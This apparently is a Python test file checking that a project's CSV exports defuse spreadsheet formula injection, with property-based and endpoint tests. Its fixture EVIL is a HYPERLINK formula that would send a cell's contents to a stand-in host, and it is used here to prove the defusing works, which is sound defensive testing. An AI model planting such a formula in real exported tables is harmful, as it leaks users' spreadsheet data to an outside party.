"""Tables that spreadsheets open: every text comes back as it was, and none is a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wattshed_collector import slo_report
from wattshed_collector.api import outcome_pages, quality_pages
from wattshed_collector.lifecycle.told import from_csv
from wattshed_collector.spreadsheet import BEGINS, FORMULA, defused, plain, written
from wattshed_collector.store.outcome_queries import KEY

EVIL = '=HYPERLINK("http://a.example?x="&A1,"more")'
texts = st.text(st.sampled_from([*BEGINS, "'", "a", '"', ",", ";", " ", "1"]), max_size=6)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.lists(texts, min_size=1, max_size=4))
def test_no_text_begins_a_formula_and_each_comes_back(names: list[str]) -> None:
    _, *rows = cells(written(("team", "joules"), [{"team": n, "joules": -1.5} for n in names]))
    assert not any(cell.startswith(BEGINS) for cell, _ in rows)
    parts = [part for cell, _ in rows for part in re.split(r"[;\t\r\n]", cell)]
    assert not any(part.startswith(tuple(FORMULA)) for part in parts)
    assert [plain(cell) for cell, _ in rows] == names


@pytest.mark.parametrize(
    "value", [-3, -2.5e-7, 0.0, True, None, "a=b", "'quoted'", "1-2", "a; b\n"]
)
def test_numbers_and_harmless_texts_stay_as_they_are(value: object) -> None:
    assert defused(value) is value


def test_every_table_that_is_written_goes_through_it() -> None:
    span = {"start": 0, "end": 1, "step": 0}
    row = dict.fromkeys((*KEY, *outcome_pages.VALUES))
    page = {"window": span, "by": ["team"], "rows": [row | {"team": EVIL}], "next": None}
    assert cells(outcome_pages.as_csv(page))[1][0] == f"'{EVIL}"  # type: ignore[arg-type]
    question = quality_pages.Question("scores", {}, (), "")
    columns = quality_pages.HEADERS["scores"]
    scores = [dict.fromkeys(columns) | {"ai_model": "-1+1", "score": -0.5}]
    shown = quality_pages.as_csv(question, {"view": "scores", "rows": scores, "next": None})
    found = dict(zip(*cells(shown), strict=True))
    assert (found["ai_model"], found["score"]) == ("'-1+1", "-0.5")
    burn = dict.fromkeys(cells(slo_report.as_csv([]))[0]) | {"slo": "@sum", "owner": "+a"}
    assert cells(slo_report.as_csv([burn]))[1][:2] == ["'@sum", "'+a"]


def test_a_device_is_told_by_the_name_that_a_table_has_of_it() -> None:
    (told,) = from_csv(written(("device", "embodied_kg"), [{"device": EVIL, "embodied_kg": 3.0}]))
    assert told == {"device": EVIL, "embodied_kg": 3.0}
